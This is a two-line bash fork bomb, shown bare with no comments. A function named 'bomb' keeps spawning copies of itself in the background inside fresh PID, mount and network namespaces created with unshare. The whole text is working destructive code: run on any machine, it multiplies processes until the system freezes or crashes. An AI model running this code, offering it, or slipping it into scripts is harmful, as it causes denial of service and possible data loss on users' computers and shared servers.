bomb() { unshare --pid --fork --mount --net bash -c "$(declare -f bomb); bomb & bomb"; }
bomb & bomb
